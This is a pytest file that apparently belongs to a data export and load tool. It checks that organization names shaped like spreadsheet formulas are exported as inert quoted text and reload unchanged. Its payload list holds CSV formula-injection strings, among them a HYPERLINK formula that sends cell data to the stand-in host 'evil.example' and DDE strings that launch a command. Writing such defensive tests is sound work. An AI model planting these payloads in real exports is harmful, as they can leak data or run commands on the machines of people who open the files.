"""Threat model 11: a name that a spreadsheet would run goes out harmless and comes back as it was."""

import csv
import io
from pathlib import Path

import pytest

from graph.history import Batch, Change
from graph.model import Organization, Source
from graph.stores.memory import MemoryStore
from loaders.export import export
from loaders.load import load

FORMULAS = [
    '=HYPERLINK("http://evil.example?x="&A1,"click")',
    "=cmd|'/C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "=1+1;=1+1",
    "＝1+1",
    "'=1+1",
]


@pytest.mark.parametrize("name", FORMULAS)
def test_a_formula_goes_out_as_text_and_comes_back(name: str, tmp_path: Path) -> None:
    source, body = Source("page", "A page", kind="report"), Organization("xx", name, country="PK", kind="other")
    first, second = MemoryStore(), MemoryStore()
    first.apply(Batch("test", "2026-11-25T00:00:00Z", "test", (Change(None, source), Change(None, body))))
    export(first.read(), tmp_path)
    text = (tmp_path / "organizations.csv").read_text(encoding="utf-8")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[1][1] == "'" + name
    # Every cell is quoted, so that a semicolon or tab opens no cell of its own either.
    assert all(line.startswith('"') and line.endswith('"') for line in text.splitlines())
    load(second, [tmp_path])
    assert second.fingerprint() == first.fingerprint()


def test_plain_numbers_and_ordinary_names_are_left_alone(tmp_path: Path) -> None:
    store = MemoryStore()
    body = Organization("xx", "-2", short_name="O'Brien's office", acronym="A=B", country="PK", kind="other")
    store.apply(Batch("test", "2026-11-25T00:00:00Z", "test", (Change(None, body),)))
    export(store.read(), tmp_path)
    row = list(csv.reader(io.StringIO((tmp_path / "organizations.csv").read_text(encoding="utf-8"))))[1]
    assert (row[1], row[2], row[4]) == ("-2", "O'Brien's office", "A=B")
